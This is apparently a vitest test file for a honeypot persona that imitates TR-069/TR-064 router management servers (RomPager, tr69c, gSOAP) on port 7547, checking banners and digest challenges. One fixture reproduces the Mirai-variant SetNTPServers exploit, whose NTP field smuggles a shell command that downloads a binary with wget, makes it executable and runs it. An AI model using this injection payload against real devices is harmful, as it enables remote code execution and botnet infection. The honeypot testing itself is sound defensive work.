import { describe, expect, it } from "vitest";
import type { PersonaReply } from "./persona.js";
import { bodyText, drive, header, oneResponse, testCtx, text } from "./persona-fixture.js";
import { GSOAP_SERVER, ROMPAGER_SERVER, tr069Persona, tr069Style } from "./tr069.js";

const NTP = `<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"> <SOAP-ENV:Body>  <u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">   <NewNTPServer1>\`cd /tmp;wget http://198.51.100.7/1;chmod 777 1;./1\`</NewNTPServer1>   <NewNTPServer2></NewNTPServer2>  </u:SetNTPServers> </SOAP-ENV:Body></SOAP-ENV:Envelope>`;
/** The TR-064 request of the November 2016 Mirai variant. */
const TR064 = `POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Type: text/xml\r\nContent-Length: ${NTP.length}\r\n\r\n${NTP}`;

function only(replies: PersonaReply[]) {
  expect(replies).toHaveLength(1);
  return oneResponse(replies[0] as PersonaReply);
}

describe("tr069 persona", () => {
  it("rompager: 404s a plain GET with RomPager's chunked answer and EXT header", () => {
    const replies = drive(tr069Persona, ["GET / HTTP/1.1\r\nHost: 192.0.2.1:7547\r\n\r\n"]);
    const res = only(replies);
    expect(res.status).toBe(404);
    expect(res.headers.map(([n]) => n)).toEqual([
      "Content-Type",
      "Transfer-Encoding",
      "Server",
      "EXT",
    ]);
    expect(header(res, "server")).toBe(ROMPAGER_SERVER);
    expect(header(res, "ext")).toBe("");
    expect(bodyText(res)).toContain("Object Not Found");
    expect(text(replies[0]?.data as Uint8Array)).toMatch(/\r\n0\r\n\r\n$/);
  });

  it("rompager: answers the TR-064 SetNTPServers exploit with the SOAP response", () => {
    const res = only(drive(tr069Persona, [TR064]));
    expect(res.status).toBe(200);
    expect(bodyText(res)).toContain(
      '<u:SetNTPServersResponse xmlns:u="urn:dslforum-org:service:Time:1">',
    );
  });

  it("tr69c: challenges with the IgdAuthentication digest and a base64 nonce, accepts a digest", () => {
    const ctx = testCtx(7547, { style: "tr69c" });
    const res = only(drive(tr069Persona, ["GET / HTTP/1.1\r\n\r\n"], ctx));
    expect(res.status).toBe(401);
    const www = header(res, "www-authenticate") ?? "";
    expect(www).toMatch(
      /^Digest realm="IgdAuthentication", domain="\/", nonce="[A-Za-z0-9+/=]+", qop="auth", algorithm=MD5$/,
    );
    const nonce = /nonce="([^"]+)"/.exec(www)?.[1] ?? "";
    expect(Buffer.from(nonce, "base64").toString("latin1")).toMatch(
      /^[0-9a-f]{8}:[0-9a-f]{8}:[0-9a-f]{8}$/,
    );
    expect(header(res, "content-length")).toBe("0");
    const ok = only(
      drive(tr069Persona, ['GET / HTTP/1.1\r\nAuthorization: Digest username="a"\r\n\r\n'], ctx),
    );
    expect(ok.status).toBe(200);
  });

  it("gsoap: challenges with realm Dimark and the gSOAP banner", () => {
    const res = only(
      drive(tr069Persona, ["GET / HTTP/1.1\r\n\r\n"], testCtx(7547, { style: "gsoap" })),
    );
    expect(res.status).toBe(401);
    expect(header(res, "www-authenticate")).toMatch(
      /^Digest realm="Dimark", qop="auth", nonce="[0-9a-f]{32}"$/,
    );
    expect(header(res, "server")).toBe(GSOAP_SERVER);
  });

  it("takes an unknown style for the default", () => {
    expect(tr069Style({ style: "nope" })).toBe("rompager");
    expect(tr069Style({})).toBe("rompager");
    expect(tr069Persona.ports).toEqual([7547]);
    expect(tr069Persona.options?.style).toBeDefined();
  });
});
